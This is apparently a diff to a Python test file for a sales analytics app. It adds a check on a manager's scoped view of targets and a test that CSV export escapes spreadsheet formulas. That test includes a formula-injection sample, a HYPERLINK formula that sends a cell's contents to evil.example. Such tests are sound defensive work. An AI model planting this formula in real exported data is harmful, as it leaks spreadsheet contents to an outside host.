@@ -8,6 +8,8 @@ OpenFire deal moved past a stage on a free move; targets for January.
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 from typing import Any
 
@@ -18,7 +20,7 @@ from bpmn_sales.domain.analytics import duration
 from bpmn_sales.errors import Forbidden, InvalidInput
 from bpmn_sales.persistence.models import Deal, StageVisit
 from bpmn_sales.services import analytics, deals, leads, processes
-from bpmn_sales.services.analytics import targets
+from bpmn_sales.services.analytics import tables, targets
 from bpmn_sales.services.analytics.scope import Filters
 from bpmn_sales.services.deals import records
 from bpmn_sales.services.demo import steps as demo_steps
@@ -249,7 +251,7 @@ def test_forecast_weights_open_deals_by_close_month_against_targets(
 
 
 def test_targets_decompose_and_flag_gaps(ctx: Context, team: Any, figures: dict[str, int]) -> None:
-    shown = targets.decomposition(ctx, team.mia, "2026-01").to_dict()
+    shown = targets.decomposition(ctx, team.admin, "2026-01").to_dict()
     assert shown["company"] == 30000.0 and shown["people"] == 27000.0
     checks = {c["check"]: c for c in shown["checks"]}
     assert checks["company = sum of people"] == {
@@ -260,6 +262,12 @@ def test_targets_decompose_and_flag_gaps(ctx: Context, team: Any, figures: dict[
     }
     mia = next(t for t in shown["teams"] if t["name"] == "mia")
     assert (mia["target"], mia["people"], mia["flagged"]) == (27000.0, 27000.0, False)
+    # mia, a manager, sees her team and its people: no company or department figures.
+    scoped = targets.decomposition(ctx, team.mia, "2026-01").to_dict()
+    assert (scoped["company"], scoped["departments"], scoped["checks"]) == (None, [], [])
+    assert [t["name"] for t in scoped["teams"]] == ["mia"]
+    assert {m["username"] for m in scoped["teams"][0]["members"]} == {"mia", "rob", "sara"}
+    assert scoped["people"] == 27000.0
     with pytest.raises(Forbidden):
         targets.set_target(ctx, team.mia, "2026-01", "company", "1")
     with pytest.raises(InvalidInput) as refused:
@@ -286,3 +294,23 @@ def test_stage_visits_replayed_from_history_match_the_live_projection(
     command.upgrade(alembic_config(ctx.db), "head")
     assert stays() == live
     assert analytics.funnel(ctx, team.admin, ALL).deals == 6
+
+
+def test_text_that_a_spreadsheet_would_run_is_exported_as_text(
+    ctx: Context, team: Any, clock: Any
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    names = (hostile, "+1+1", "-2+3", "@SUM(A1)", "Plain")  # (names are stripped of tabs)
+    at(clock, 1)
+    for name in names:
+        deals.create_deal(ctx, team.rob, name, None, "100")
+    at(clock, 28)  # past the initial visit's reminder: all five are stuck
+    exported = tables.table(ctx, team.admin, "stuck", ALL).csv()
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert sorted(row[2] for row in rows[1:]) == sorted(
+        ["'" + hostile, "'+1+1", "'-2+3", "'@SUM(A1)", "Plain"]
+    )
+    # numbers stay numbers, and the JSON answer keeps each name as typed
+    assert all(row[1].isdigit() and row[4].isdigit() for row in rows[1:])
+    shown = tables.table(ctx, team.admin, "stuck", ALL).to_dict()
+    assert {row[2] for row in shown["rows"]} == set(names)
